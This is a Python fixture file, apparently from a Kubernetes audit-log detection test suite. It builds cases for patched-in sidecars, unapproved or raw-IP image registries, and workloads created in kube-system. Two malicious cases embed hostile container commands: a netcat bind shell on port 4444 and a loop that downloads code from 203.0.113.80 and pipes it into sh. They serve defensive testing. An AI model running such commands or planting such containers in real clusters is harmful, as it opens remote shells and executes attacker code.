"""Fixture cases of the workloads theme: images set by patch, registries, raw-IP registries, workloads in kube-system.

Called by ``themes_workloads.theme_workloads``, in a fixed order (the theme's
random generator makes the output byte-identical across runs).
"""

from __future__ import annotations

import breadth_kit as k
import make_fixtures as mf
from auditgen import container


def patched_images(t: mf.Theme) -> None:
    sidecar = {
        "name": "telemetry",
        "image": "ghcr.io/telemetry-agent/agent:0.9",
        "command": ["/bin/sh", "-c", "while true; do sleep 30; done"],
    }
    t.case(
        "JSON patch adding a sidecar container fires",
        k.write(
            t,
            mf.MALLORY,
            "patch",
            "Deployment",
            k.NS,
            "checkout",
            [k.json_op("add", "/spec/template/spec/containers/-", sidecar)],
        ),
        {k.R_ADDED: 1},
        [k.R_REGISTRY],
    )
    smp = k.template_patch(
        "Deployment",
        {
            "$setElementOrder/containers": [{"name": "web"}, {"name": "helper"}],
            "containers": [
                {
                    "name": "helper",
                    "image": "docker.io/library/busybox:1.36",
                    "args": ["sh", "-c", "nc -lk -p 4444 -e /bin/sh"],
                }
            ],
        },
    )
    t.case(
        "strategic merge patch adding a sidecar container fires",
        k.write(t, mf.MALLORY, "patch", "Deployment", k.NS, "web", smp),
        {k.R_ADDED: 1, k.R_REGISTRY: 1},
    )
    set_image = k.template_patch(
        "Deployment", {"containers": [{"name": "cart", "image": "docker.io/shopfan/cart:latest"}]}
    )
    t.case(
        "kubectl set image to a Docker Hub user image fires",
        k.write(
            t,
            mf.MALLORY,
            "patch",
            "Deployment",
            k.NS,
            "cart",
            set_image,
            query="fieldManager=kubectl-set",
        ),
        {k.R_REGISTRY: 1},
        [k.R_ADDED, k.R_RAWIP],
    )
    raw = k.template_patch(
        "Deployment", {"containers": [{"name": "cart", "image": "45.9.148.35:5000/cart:2.14.1"}]}
    )
    t.case(
        "kubectl set image to a registry addressed by IP fires",
        k.write(
            t,
            mf.MALLORY,
            "patch",
            "Deployment",
            k.NS,
            "cart",
            raw,
            query="fieldManager=kubectl-set",
        ),
        {k.R_RAWIP: 1, k.R_REGISTRY: 1},
        [k.R_ADDED],
    )
    t.case(
        "pod with an image from an IPv6 registry fires",
        t.pod_create(
            mf.MALLORY,
            k.NS,
            name="probe",
            containers=[container("probe", "[2001:db8::50]:5000/probe:1")],
        ),
        {k.R_RAWIP: 1, k.R_REGISTRY: 1},
    )
    approved = k.template_patch(
        "Deployment", {"containers": [{"name": "cart", "image": "quay.io/shop/cart:2.14.2"}]}
    )
    t.case(
        "kubectl set image within an approved registry is quiet",
        k.write(
            t,
            mf.CI,
            "patch",
            "Deployment",
            k.NS,
            "cart",
            approved,
            query="fieldManager=kubectl-set",
        ),
        {},
        [k.R_REGISTRY, k.R_RAWIP, k.R_ADDED],
    )
    t.case(
        "image from a named registry with a port is not a raw IP",
        k.create(
            t,
            mf.BOB,
            "Deployment",
            k.NS,
            "cart",
            k.pod_spec([container("cart", "registry.internal:5000/shop/cart:2.14.1")]),
        ),
        {k.R_REGISTRY: 1},
        [k.R_RAWIP],
    )


def kube_namespace(t: mf.Theme) -> None:
    agent = container(
        "agent",
        "docker.io/library/busybox:1.36",
        command=[
            "sh",
            "-c",
            "while true; do wget -q -O- http://203.0.113.80/c | sh; sleep 600; done",
        ],
    )
    t.case(
        "DaemonSet with an unknown image created in kube-system fires",
        k.create(
            t, mf.MALLORY, "DaemonSet", "kube-system", "kube-proxy-helper", k.pod_spec([agent])
        ),
        {k.R_KUBENS_WL: 1, k.R_DS: 1, k.R_REGISTRY: 1},
    )
    ms = container("metrics-server", "registry.k8s.io/metrics-server/metrics-server:v0.7.1")
    t.case(
        "metrics-server Deployment installed by helm in kube-system is quiet",
        k.create(
            t,
            mf.ALICE.with_ip("10.8.0.14", k.HELM_UA),
            "Deployment",
            "kube-system",
            "metrics-server",
            k.pod_spec([ms]),
        ),
        {},
        [k.R_KUBENS_WL, k.R_REGISTRY, k.R_DS],
    )
    eks = mf.Actor(
        "eks:addon-manager",
        ("system:authenticated",),
        "10.0.0.10",
        "eks-addon-manager/v1.0 (linux/amd64)",
    )
    t.case(
        "DaemonSet created by the managed add-on manager is quiet",
        k.create(
            t,
            eks,
            "DaemonSet",
            "kube-system",
            "aws-node",
            k.pod_spec(
                [
                    container(
                        "aws-node",
                        "602401143452.dkr.ecr.us-east-1.amazonaws.com/amazon-k8s-cni:v1.18.2",
                        security_context=k.PRIV,
                    )
                ],
                hostNetwork=True,
            ),
        ),
        {},
        [k.R_DS, k.R_KUBENS_WL, k.R_TPL_PRIV, k.R_TPL_HOSTNS],
    )
